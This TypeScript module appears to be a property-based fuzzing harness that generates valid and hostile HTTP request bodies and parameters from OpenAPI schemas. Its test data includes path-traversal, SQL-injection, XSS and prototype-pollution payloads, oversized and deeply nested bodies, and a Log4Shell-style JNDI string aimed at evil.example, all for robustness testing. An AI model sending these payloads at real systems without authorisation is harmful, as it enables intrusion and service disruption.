import fc from 'fast-check';

/** The part of an OpenAPI (JSON Schema) schema the generators read. */
export interface JsonSchema {
  type?: string | string[];
  format?: string;
  pattern?: string;
  enum?: unknown[];
  const?: unknown;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  items?: JsonSchema;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  nullable?: boolean;
  default?: unknown;
}

/** Text that has broken services before: NUL, half surrogate pairs, controls, direction marks. */
export const NASTY_TEXT = [
  '\u0000',
  'a\u0000b',
  '\udfff\ud800',
  '\ud800',
  'x\udc00y',
  '\u0007\u001b[31mred',
  'line\nbreak\ttab',
  '\u0085\u009b',
  '\u202egnp.exe',
  'שלום עולם',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301\u0301\u0301',
  '\ufeff\uffff\ufffe',
  '../../etc/passwd',
  "' OR '1'='1",
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '%00',
  ' ',
  '',
];

/** Percent-encoded forms a browser would never send: truncated, not hex, invalid UTF-8. */
export const RAW_ENCODED = [
  '%',
  '%zz',
  '%FF',
  '%ED%A0%80',
  '%C0%AF',
  '%00',
  '%E2%80%AE',
  '%2F..%2F',
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_TEXT) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.string({ maxLength: 10 }), fc.constantFrom(...NASTY_TEXT))
      .map(([s, nasty]) => `${s}${nasty}${s}`),
  },
  { weight: 1, arbitrary: fc.integer({ min: 300, max: 20_000 }).map((n) => 'x'.repeat(n)) },
  { weight: 1, arbitrary: fc.integer({ min: 100, max: 3_000 }).map((n) => '😀'.repeat(n)) },
);

export const hugeNumber: fc.Arbitrary<number> = fc.constantFrom(
  1e308,
  -1e308,
  2 ** 53 + 2,
  -(2 ** 63),
  2 ** 31,
  2 ** 32 + 1,
  1e21,
  0.5,
  -1,
  0,
);

/** Any JSON value, or one of the above: what a field gets when it is not what it should be. */
export const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  hugeNumber,
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
);

const bounded = (n: number | undefined, lo: number, hi: number) =>
  Math.max(lo, Math.min(hi, n ?? (lo < 0 ? lo : hi)));

/** A value the schema accepts, as far as its JSON Schema says (refinements it cannot tell). */
export function validValue(schema: JsonSchema | undefined, depth = 0): fc.Arbitrary<unknown> {
  if (!schema || depth > 4) return fc.jsonValue({ maxDepth: 1 });
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum?.length) return fc.constantFrom(...schema.enum);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives?.length) return fc.oneof(...alternatives.map((s) => validValue(s, depth + 1)));
  if (schema.allOf?.length) return validValue(schema.allOf[0], depth + 1);
  const type: string = (Array.isArray(schema.type) ? schema.type[0] : schema.type) ?? 'any';
  switch (type) {
    case 'string': {
      const min = schema.minLength ?? 0;
      const max = Math.min(schema.maxLength ?? 24, 24);
      if (schema.format === 'uuid') return fc.uuid();
      if (schema.format === 'date-time')
        return fc
          .date({ min: new Date('2000-01-01'), max: new Date('2100-01-01'), noInvalidDate: true })
          .map((d) => d.toISOString());
      if (schema.format === 'email') return fc.emailAddress().filter((e) => e.length <= 254);
      if (schema.pattern) {
        return fc
          .stringMatching(new RegExp(schema.pattern))
          .filter((s) => s.length >= min && s.length <= (schema.maxLength ?? 200));
      }
      return fc.string({ minLength: min, maxLength: Math.max(min, max) });
    }
    case 'integer':
      return fc.integer({
        min: bounded(schema.minimum, -1_000_000, 1_000_000),
        max: bounded(schema.maximum, -1_000_000, 1_000_000),
      });
    case 'number':
      return fc.double({
        noNaN: true,
        noDefaultInfinity: true,
        min: bounded(schema.minimum, -1e6, 1e6),
        max: bounded(schema.maximum, -1e6, 1e6),
      });
    case 'boolean':
      return fc.boolean();
    case 'array':
      return fc.array(validValue(schema.items, depth + 1), { maxLength: 3 });
    case 'object': {
      const properties = schema.properties ?? {};
      if (Object.keys(properties).length === 0)
        return fc.dictionary(
          fc.string({ minLength: 1, maxLength: 8 }),
          fc.jsonValue({ maxDepth: 2 }),
          {
            maxKeys: 3,
          },
        );
      const shape = Object.fromEntries(
        Object.entries(properties).map(([key, s]) => [key, validValue(s, depth + 1)]),
      );
      return fc.record(shape, { requiredKeys: (schema.required ?? []).filter((k) => k in shape) });
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** A body as sent: JSON text (or raw bytes) and the content type it claims. */
export interface HostileBody {
  kind: string;
  body: string | Uint8Array;
  contentType: string;
}

const json = (kind: string) => (value: unknown) => ({
  kind,
  body: JSON.stringify(value),
  contentType: 'application/json',
});

/**
 * Bodies for an operation: mostly valid ones with one field made hostile or of the wrong type,
 * plus unknown fields, the wrong type altogether, broken or oversized JSON, invalid UTF-8,
 * deep nesting and the wrong content type.
 */
export function hostileBody(schema: JsonSchema | undefined): fc.Arbitrary<HostileBody> {
  const valid = validValue(schema ?? { type: 'object' });
  const withField = (field: fc.Arbitrary<unknown>) =>
    fc
      .tuple(valid, fc.constantFrom(...Object.keys(schema?.properties ?? { extra: {} })), field)
      .map(([body, key, value]) => ({ ...(body as object), [key]: value }));
  return fc.oneof(
    { weight: 1, arbitrary: valid.map(json('valid')) },
    { weight: 4, arbitrary: withField(hostileText).map(json('hostile text')) },
    { weight: 3, arbitrary: withField(wrongValue).map(json('wrong type')) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(valid, fc.string({ minLength: 1, maxLength: 12 }), wrongValue)
        .map(([body, key, value]) => ({ ...(body as object), [`unknown_${key}`]: value }))
        .map(json('unknown field')),
    },
    { weight: 1, arbitrary: wrongValue.map(json('wrong body type')) },
    {
      weight: 1,
      arbitrary: fc.constantFrom<HostileBody>(
        { kind: 'broken JSON', body: '{"a":', contentType: 'application/json' },
        { kind: 'trailing garbage', body: '{}garbage', contentType: 'application/json' },
        { kind: 'empty JSON', body: '', contentType: 'application/json' },
        {
          kind: 'prototype pollution',
          body: '{"__proto__":{"admin":true}}',
          contentType: 'application/json',
        },
        {
          kind: 'deep nesting',
          body: `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
          contentType: 'application/json',
        },
        {
          kind: 'invalid UTF-8',
          body: Buffer.concat([
            Buffer.from('{"name":"'),
            Buffer.from([0xff, 0xfe, 0xc0, 0xaf]),
            Buffer.from('"}'),
          ]),
          contentType: 'application/json',
        },
        {
          kind: 'oversized',
          body: JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024) }),
          contentType: 'application/json',
        },
        { kind: 'not JSON', body: 'name=x', contentType: 'application/x-www-form-urlencoded' },
        { kind: 'text', body: '{}', contentType: 'text/plain' },
      ),
    },
  );
}

/**
 * A generated value as a parameter's text: an object (a record-typed query parameter) as its
 * JSON, since `String` throws on one without a prototype or with a `toString` key of its own.
 */
function paramText(value: unknown): string {
  if (typeof value !== 'object' || value === null) return String(value);
  return JSON.stringify(value) ?? '';
}

/** A query or path value: text to encode, or an already encoded (possibly broken) string. */
export type ParamValue = { text: string } | { raw: string };

export function paramValue(schema: JsonSchema | undefined): fc.Arbitrary<ParamValue> {
  return fc.oneof(
    { weight: 2, arbitrary: validValue(schema).map((v) => ({ text: paramText(v) })) },
    // cut so the whole URL stays within Node's 16 KiB of headers: beyond that Node answers 431
    // at the socket, before there is a request to refuse or record
    { weight: 4, arbitrary: hostileText.map((t) => ({ text: t.slice(0, 200) })) },
    { weight: 1, arbitrary: hugeNumber.map((n) => ({ text: String(n) })) },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_ENCODED).map((raw) => ({ raw })) },
  );
}

/** Percent-encodes text as UTF-8; a lone surrogate goes as its (invalid) CESU-8 bytes. */
export function encodeParam(value: ParamValue): string {
  if ('raw' in value) return value.raw;
  let out = '';
  for (let i = 0; i < value.text.length; i++) {
    const unit = value.text.charCodeAt(i);
    const pair =
      unit >= 0xd800 && unit <= 0xdbff && /[\udc00-\udfff]/.test(value.text[i + 1] ?? '');
    if (unit >= 0xd800 && unit <= 0xdfff && !pair) {
      out += [0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join('');
      continue;
    }
    const char = pair ? value.text.slice(i, i + 2) : value.text[i]!;
    out += encodeURIComponent(char);
    if (pair) i++;
  }
  return out;
}
